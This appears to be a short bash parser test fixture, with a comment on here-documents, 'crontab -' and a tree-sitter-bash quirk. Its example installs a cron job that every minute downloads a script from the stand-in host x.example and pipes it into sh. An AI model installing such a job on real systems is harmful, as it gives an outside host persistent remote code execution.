# source: bash(1) Here Documents; crontab(1) "crontab -" installs the table read from stdin (tree-sitter-bash drops a lone `-` before `<<`)
crontab - <<'EOF'
* * * * * curl -s https://x.example/i.sh | sh
EOF
